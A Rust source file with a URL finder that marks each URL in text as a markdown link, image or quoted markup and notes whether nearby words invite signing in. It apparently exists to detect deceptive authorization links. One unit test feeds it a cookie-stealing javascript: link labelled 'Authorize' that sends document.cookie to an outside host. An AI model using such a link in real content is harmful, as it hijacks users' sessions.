//! URLs inside free text, with how they are presented (a markdown link, an image, an HTML
//! attribute, a code span) and whether the line around them talks about signing in.

use aho_corasick::AhoCorasick;
use std::ops::Range;
use std::sync::LazyLock;

/// At most this many URLs are judged per string: a flood of links is not an authorization flow.
const MAX_URLS_PER_TEXT: usize = 64;
/// How far around a URL the words that make it an authorization prompt are looked for.
const CONTEXT_BYTES: usize = 300;

static SCHEME_MARKERS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(["://", "javascript:", "vbscript:", "data:", "file:"])
        .expect("literals build")
});

/// Words that make a line an invitation to authorize, sign in or grant access.
static AUTH_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build([
            "authoriz",
            "authoris",
            "authenticat",
            "oauth",
            "sign in",
            "sign-in",
            "signin",
            "log in",
            "log-in",
            "login",
            "consent",
            "grant access",
            "connect your",
            "reauth",
            "re-auth",
            "verify your account",
        ])
        .expect("literals build")
});

/// One URL found in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FoundUrl {
    pub range: Range<usize>,
    /// The target of a markdown link `[label](url)` (not an image).
    pub link: bool,
    /// The source of a markdown image `![alt](url)`: rendered, not opened.
    pub image: bool,
    /// Inside an HTML attribute (`href="…"`) or a code span: markup being shown, not a prompt.
    pub quoted: bool,
    /// The line around it speaks of authorizing, signing in or granting access.
    pub auth_words: bool,
}

/// Whether a text could hold a URL at all (cheap).
pub fn may_hold_urls(text: &str) -> bool {
    SCHEME_MARKERS.is_match(text)
}

/// Every URL-looking token of `text`, in order, bounded.
pub fn find_urls(text: &str) -> Vec<FoundUrl> {
    let bytes = text.as_bytes();
    let mut found: Vec<FoundUrl> = Vec::new();
    let mut covered = 0usize;
    for m in SCHEME_MARKERS.find_iter(text) {
        if found.len() >= MAX_URLS_PER_TEXT {
            break;
        }
        let start = if &bytes[m.start()..m.end()] == b"://" {
            let mut s = m.start();
            while s > 0 && is_scheme_byte(bytes[s - 1]) {
                s -= 1;
            }
            // Schemes start with a letter; skip leading digits or dots that are not part of it.
            while s < m.start() && !bytes[s].is_ascii_alphabetic() {
                s += 1;
            }
            if s == m.start() || m.start() - s > 32 {
                continue;
            }
            s
        } else {
            // `metadata:` or `profile:` are words, not schemes.
            if m.start() > 0 && is_scheme_byte(bytes[m.start() - 1]) {
                continue;
            }
            m.start()
        };
        if start < covered {
            continue; // inside a URL already found (e.g. a redirect parameter)
        }
        let before = &text[..start];
        let link = before.ends_with("](");
        let end = url_end(bytes, m.end(), link);
        if end <= m.end() {
            continue; // a bare scheme with nothing after it: prose about the scheme
        }
        covered = end;
        let image = link && is_image(before);
        let quoted = before.ends_with('`')
            || before.ends_with("=\"")
            || before.ends_with("='")
            || before.ends_with('=') && !before.ends_with("==");
        let window_start = floor_char(text, start.saturating_sub(CONTEXT_BYTES));
        let window_end = floor_char(text, (end + CONTEXT_BYTES).min(text.len()));
        let line_start = text[window_start..start]
            .rfind('\n')
            .map_or(window_start, |i| window_start + i + 1);
        let line_end = text[end..window_end]
            .find('\n')
            .map_or(window_end, |i| end + i);
        let around = format!("{} {}", &text[line_start..start], &text[end..line_end]);
        found.push(FoundUrl {
            range: start..end,
            link: link && !image,
            image,
            quoted,
            auth_words: AUTH_WORDS.is_match(&around),
        });
    }
    found
}

fn is_scheme_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'+' || b == b'-' || b == b'.'
}

/// Where a URL starting before `from` ends: at whitespace, quotes, angle brackets, a backtick, or
/// an unbalanced closing parenthesis; trailing sentence punctuation is not part of it. A markdown
/// link target runs to its closing parenthesis, quotes included (`javascript:f('x')`).
fn url_end(bytes: &[u8], from: usize, link: bool) -> usize {
    let mut depth = 0usize;
    let mut end = from;
    while end < bytes.len() {
        match bytes[end] {
            b if b.is_ascii_whitespace() => break,
            b'"' | b'\'' | b'<' | b'>' | b'`' if !link => break,
            b'(' => depth += 1,
            b')' if depth == 0 => break,
            b')' => depth -= 1,
            _ => {}
        }
        end += 1;
    }
    while end > from && matches!(bytes[end - 1], b'.' | b',' | b';' | b':' | b'!' | b'?') {
        end -= 1;
    }
    end
}

/// `before` ends with `](`: is the bracket it closes opened by `![`?
fn is_image(before: &str) -> bool {
    let head = &before[..before.len() - 2];
    let line = head.rsplit('\n').next().unwrap_or(head);
    let mut depth = 0usize;
    for (i, c) in line.char_indices().rev() {
        match c {
            ']' => depth += 1,
            '[' if depth == 0 => return line[..i].ends_with('!'),
            '[' => depth -= 1,
            _ => {}
        }
    }
    false
}

fn floor_char(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    fn urls(text: &str) -> Vec<(String, FoundUrl)> {
        find_urls(text)
            .into_iter()
            .map(|f| (text[f.range.clone()].to_owned(), f))
            .collect()
    }

    #[test]
    fn markdown_links_images_and_bare_urls() {
        let u = urls("[Authorize](javascript:fetch('//x.io/?'+document.cookie)) then ![logo](data:image/png;base64,AAAA) or see https://example.org/x.");
        assert_eq!(u[0].0, "javascript:fetch('//x.io/?'+document.cookie)");
        assert!(u[0].1.link && !u[0].1.image && u[0].1.auth_words);
        assert_eq!(u[1].0, "data:image/png;base64,AAAA");
        assert!(u[1].1.image && !u[1].1.link);
        assert_eq!(u[2].0, "https://example.org/x");
    }

    #[test]
    fn words_and_code_are_not_urls_or_not_prompts() {
        assert!(urls("metadata: 4 entries; profile:data").is_empty());
        assert!(urls("never use javascript: in links").is_empty());
        let u = urls("Avoid `javascript:void(0)` and <a href=\"javascript:go()\">x</a>");
        assert!(u.iter().all(|(_, f)| f.quoted), "{u:?}");
    }

    #[test]
    fn a_redirect_inside_a_url_is_part_of_it_and_context_is_the_line() {
        let u = urls("Docs\nPlease sign in: https://a.example/authorize?redirect_uri=javascript:x\nbye https://b.example/");
        assert_eq!(u.len(), 2);
        assert!(u[0].1.auth_words);
        assert!(!u[1].1.auth_words);
        assert!(urls("東京 — https://例え.テスト/パス 😀").len() == 1);
    }
}
